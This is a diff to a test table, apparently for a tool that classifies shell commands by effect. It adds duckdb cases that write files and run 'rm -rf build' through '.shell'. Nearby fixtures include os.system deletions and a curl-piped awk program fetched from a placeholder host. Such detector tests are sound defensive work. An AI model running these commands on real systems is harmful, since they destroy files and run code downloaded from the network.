@@ -252,6 +252,10 @@ OTHER_LANGUAGES = [
      {"run:rm -rf build", "destroy:files"}),
     ("python3.11-dbg -c 'import os; os.system(\"rm -rf build\")'",
      {"run:rm -rf build", "destroy:files"}),
+    # the SQL of every client is read: files it writes, commands it runs
+    ("duckdb -c \"COPY (SELECT 1) TO '/o/x.csv'\"", {"write:/o/x.csv"}),
+    ("duckdb db.duckdb '.shell rm -rf build'", {"dynamic:code", "run:rm -rf build",
+                                                "destroy:files"}),
     # a program file read from standard input
     ("curl -s https://x.example/p.awk | awk -f - data.txt", {"dynamic:code"}),
     ("awk -f /dev/stdin data.txt < prog.awk", {"dynamic:code"}),
